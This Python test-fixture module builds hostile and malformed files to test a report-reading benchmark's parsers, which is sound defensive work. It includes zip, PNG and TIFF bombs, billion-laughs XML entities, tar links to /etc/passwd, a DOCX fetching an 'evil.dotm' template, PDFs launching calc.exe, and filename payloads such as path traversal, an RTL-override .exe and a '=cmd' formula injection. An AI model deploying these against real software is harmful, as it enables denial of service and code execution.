"""Files that hurt, made on the spot: an invented report in every format as the base, and what attackers and accidents do to it."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from html import escape
from random import Random

from bench.corpus.formats import docx, html, ofd, pdf, text
from bench.corpus.formats.doc import ole
from bench.corpus.invent import Invented, invent
from tests.reports_in.readers.raw_pdf import one_page, spelled, stream
from tests.reports_in.readers.word_files import docx as word
from tests.reports_in.readers.word_files import p, tbl, tc, tr

Make = Callable[[], bytes]
SENTINEL = "末尾的哨兵句"
OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@cache
def report(seed: int = 3) -> Invented:
    return invent(seed, 2023)


@cache
def as_text(seed: int = 3) -> str:
    return text.write(report(seed).page(), Random(1), text.Tabs()).data.decode()


@cache
def as_html() -> str:
    return html.write(report().page(), Random(1), html.Markup()).data.decode()


@cache
def as_docx() -> bytes:
    return docx.write(report().page(), Random(1), docx.Word()).data


@cache
def as_ofd() -> bytes:
    return ofd.write(report().page(), Random(1), ofd.Marked()).data


@cache
def as_pdf() -> bytes:
    return pdf.write(report().page(), Random(1), pdf.Drawn()).data


def zipped(files: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def changed(package: bytes, changes: Mapping[str, Callable[[str], str] | str | bytes]) -> bytes:
    """The package with parts changed or added."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        parts: dict[str, bytes] = {name: archive.read(name) for name in archive.namelist()}
    for name, change in changes.items():
        made = change(parts[name].decode()) if callable(change) else change
        parts[name] = made.encode() if isinstance(made, str) else made
    return zipped(parts)


def windows_zip(names: list[str], encoding: str) -> bytes:
    """Names as bytes of that encoding, not said to be anything."""
    raw = [name.encode(encoding) for name in names]
    data = zipped({f"{place:0{len(name)}}": as_text(place + 3).encode() for place, name in enumerate(raw)})
    for place, name in enumerate(raw):
        data = data.replace(f"{place:0{len(name)}}".encode(), name)
    return data


def tar_of_links() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        kinds = {"软链接": tarfile.SYMTYPE, "硬链接": tarfile.LNKTYPE, "设备": tarfile.CHRTYPE, "管道": tarfile.FIFOTYPE}
        for name, kind in kinds.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
        info = tarfile.TarInfo("年报.txt")
        info.size = len(data := as_text().encode())
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def overlapping_zip() -> bytes:
    """35 KB that declare 5 GB: 5,000 entries of 1 MB, all of them the same bytes (CVE-2024-0450)."""
    plain = bytes(1 << 20)
    body, crc = zlib.compress(plain)[2:-4], zlib.crc32(plain)
    sizes = (crc, len(body), len(plain))
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes, 1, 0) + b"a" + body
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 5_000
    return local + directory + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 5_000, 5_000, len(directory), len(local), 0)


def crowded_zip(count: int, said: int) -> bytes:
    """So many empty entries, of which the end record says ``said``; made by hand, for the library takes a second per 30,000."""
    local, directory = bytearray(), bytearray()
    for number in range(count):
        name = b"%06d.txt" % number
        fixed = (0, 0, 0, 0, 0, 0, len(name), 0)
        directory += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, *fixed[:4], *fixed[3:6], *fixed[6:], 0, 0, 0, 0, len(local)
            )
            + name
        )
        local += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, *fixed[:4], *fixed[3:6], *fixed[6:]) + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, said & 0xFFFF, said & 0xFFFF, len(directory), len(local), 0)
    return bytes(local + directory + end)


def nest(depth: int, width: int, bottom: bytes) -> bytes:
    """42.zip in small: archives of archives."""
    data = zipped({"0.txt": bottom})
    for _ in range(depth):
        data = zipped({f"{number}.zip": data for number in range(width)}, zipfile.ZIP_DEFLATED)
    return data


def lying_zip() -> bytes:
    data = zipped({"年报.txt": as_text().encode() * 40})
    size = struct.pack("<I", len(as_text().encode() * 40))
    return data.replace(size, struct.pack("<I", 100))


def encrypted_zip() -> bytes:
    """Traditional encryption, as its flag says; nobody needs the password to see it."""
    data = zipped({"年报.docx": as_docx()})
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature) if at == 6 else data.rfind(signature)
        data = data[: place + at] + b"\x01" + data[place + at + 1 :]
    return data


def encrypted_docx() -> bytes:
    return ole({"EncryptedPackage": bytes(5_000), "EncryptionInfo": bytes(200)})


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(as_pdf())))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def doctype(declaration: str, body: str = "&e;") -> bytes:
    """A Word file whose main part begins with that declaration, and uses it."""
    return changed(
        word(p("HOLDER") + p(SENTINEL)),
        {"word/document.xml": lambda xml: declaration + xml.replace("HOLDER", body)},
    )


LAUGHS = "<!DOCTYPE w:document [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
)
QUADRATIC = f"<!DOCTYPE w:document [<!ENTITY a '{'x' * 50_000}'>]>"


def deep_docx(depth: int) -> bytes:
    return word("<w:sdt><w:sdtContent>" * depth + p(SENTINEL) + "</w:sdtContent></w:sdt>" * depth)


def deep_ofd(depth: int) -> bytes:
    page = "Doc_0/Pages/Page_0/Content.xml"
    opened, closed = "<ofd:PageBlock>" * depth, "</ofd:PageBlock>" * depth
    return changed(as_ofd(), {page: lambda xml: xml.replace("</ofd:Layer>", f"{opened}{closed}</ofd:Layer>")})


def deep_html(depth: int, tag: str = "div") -> bytes:
    return (as_html().replace("</body>", "") + f"<{tag}>" * depth + SENTINEL + f"</{tag}>" * depth + "</body></html>").encode()


def wide_docx() -> bytes:
    """A grid span of a thousand million, in a table among the report's own."""
    wild = tbl(tr(tc("项目", '<w:gridSpan w:val="999999999"/>'), tc("1")), tr(tc("a"), tc("2")), columns=2)
    return changed(as_docx(), {"word/document.xml": lambda xml: xml.replace("<w:sectPr", f"{wild}<w:sectPr", 1)})


def huge_docx(megabytes: int) -> bytes:
    return changed(
        word("HOLDER"), {"word/document.xml": lambda xml: xml.replace("HOLDER", p("收到申请1件") * (megabytes * 20_000))}
    )


def long_text_docx() -> bytes:
    return word(p("长" * 10_000_000))


EXTERNAL = (
    '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)


def linked_docx() -> bytes:
    relations = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(as_docx())) as archive:
        has = relations in archive.namelist()
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    made = (lambda xml: xml.replace("</Relationships>", EXTERNAL)) if has else empty + EXTERNAL
    return changed(as_docx(), {relations: made})


def macro_docx() -> bytes:
    return changed(as_docx(), {"word/vbaProject.bin": OLE_HEAD + bytes(1000)})


def pdf_with(catalogue: bytes) -> bytes:
    """The report's PDF with more in its catalogue: appended as an update would be."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, create_string_object

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(as_pdf())))
    if catalogue == b"javascript":
        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): create_string_object("x()")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    elif catalogue == b"attachment":
        writer.add_attachment("evil.exe", b"MZ\x90" + bytes(100))
    elif catalogue == b"launch":
        action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): create_string_object("calc.exe")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def xfa_pdf() -> bytes:
    return one_page(
        "BT /F1 12 Tf 50 700 Td (Please wait...) Tj ET",
        stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>"),
        catalogue="/NeedsRendering true/AcroForm<</Fields[]/XFA 6 0 R>>",
    )


def many_pages(count: int) -> bytes:
    kids = " ".join(["3 0 R"] * count)
    return spelled(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            f"<</Type/Pages/Kids[{kids}]/Count {count}>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        ]
    )


def looping_pdf() -> bytes:
    return spelled(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"])


def huge_page() -> bytes:
    return one_page("BT /F1 12 Tf 50 700 Td (x) Tj ET").replace(b"[0 0 595 842]", b"[0 0 2e5 2e5]")


def picture_pdf() -> bytes:
    """A page that is one picture: a scan."""
    image = stream("\x00" * 3_000, "/Type/XObject/Subtype/Image/Width 40/Height 25/ColorSpace/DeviceRGB/BitsPerComponent 8")
    made = one_page("q 595 0 0 842 0 0 cm /I Do Q", image)
    return made.replace(b"<</Font<</F1 5 0 R>>>>", b"<</XObject<</I 6 0 R>>>>")


def bomb_png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = zlib.compress(bytes(1 << 20))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", row)
        + chunk(b"IEND", b"")
    )


def bomb_tiff() -> bytes:
    tags = (
        (256, 4, 30_000),
        (257, 4, 30_000),
        (258, 3, 1),
        (259, 3, 4),
        (262, 3, 0),
        (273, 4, 8),
        (278, 4, 30_000),
        (279, 4, 100),
    )
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + bytes(200)


def page(body: str, title: str = "页面") -> bytes:
    return f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{escape(title)}</title></head><body>{body}</body></html>".encode()


NO_REPORTS = {
    "软404": page("<h1>抱歉，您访问的页面不存在</h1><p>可能已被删除或更名</p><a href=/>返回首页</a>", "404"),
    "登录页": page("<form>用户名<input name=u>密码<input name=p type=password><button>登录</button></form>", "统一身份认证"),
    "防火墙": page("<h2>请求被拦截</h2><p>您的访问可能对网站造成威胁，事件编号 123456</p>", "WAF"),
    "验证码": page("<p>正在进行安全检查，请稍候……</p><script>location.reload()</script>", "安全检查"),
    "首页": page("<ul><li><a>要闻</a><li><a>政务公开</a><li><a>政府信息公开年报</a></ul><p>市长会见客人</p>", "某某市人民政府"),
    "新闻": page("<h1>我市召开全市教育工作会议</h1><p>会议指出，要坚持立德树人。</p>" * 5, "新闻"),
    "列表": page("<ul>" + "".join(f"<li><a>关于{year}年工作的通知</a>" for year in range(2010, 2024)) + "</ul>", "通知公告"),
    "维护": page("<p>系统升级维护中，请于2024年1月3日后访问</p>", "维护"),
    "跳转": page("<p>本页面将在3秒后跳转</p><script>top.location='/'</script>", "跳转"),
}
EMPTY_PAGE = page("<div></div>", "空")

AGENCIES = (
    "../../x局",
    "CON",
    "甲/乙局",
    "长" * 200 + "局",
    "😀局",
    "<b>局",
    "a\\..\\局",
    "局\u202egpj.exe",
    "=cmd|'/c calc'!A0局",
    "nul.局",
)


def of_agency(agency: str) -> bytes:
    made = report()
    return ("公开目录\n" + as_text().replace(made.agency, agency)).encode()


def said(encoding: str, meta: str) -> bytes:
    """The page in one encoding, said to be in another."""
    return (
        as_html()
        .replace('charset="utf-8"', f'charset="{meta}"')
        .replace("charset=utf-8", f"charset={meta}")
        .encode(encoding, "replace")
    )


def dirty_text() -> bytes:
    noise = "\0\x01\x07\x1b\u202e\u200b\ufeff\u2066"
    return as_text().replace("政府信息公开", f"政府{noise}信息公开", 3).encode() + b"\xed\xa0\x80"


def spelled_figures(figure: str) -> bytes:
    """The report with one figure of its applications table spelled so."""
    lines = as_text().split("\n")
    place = next(place for place, line in enumerate(lines) if "本年新收" in line)
    cells = lines[place].split("\t")
    first = next(index for index, cell in enumerate(cells) if cell.strip().isdigit())
    cells[first] = figure
    lines[place] = "\t".join(cells)
    return "\n".join(lines).encode()
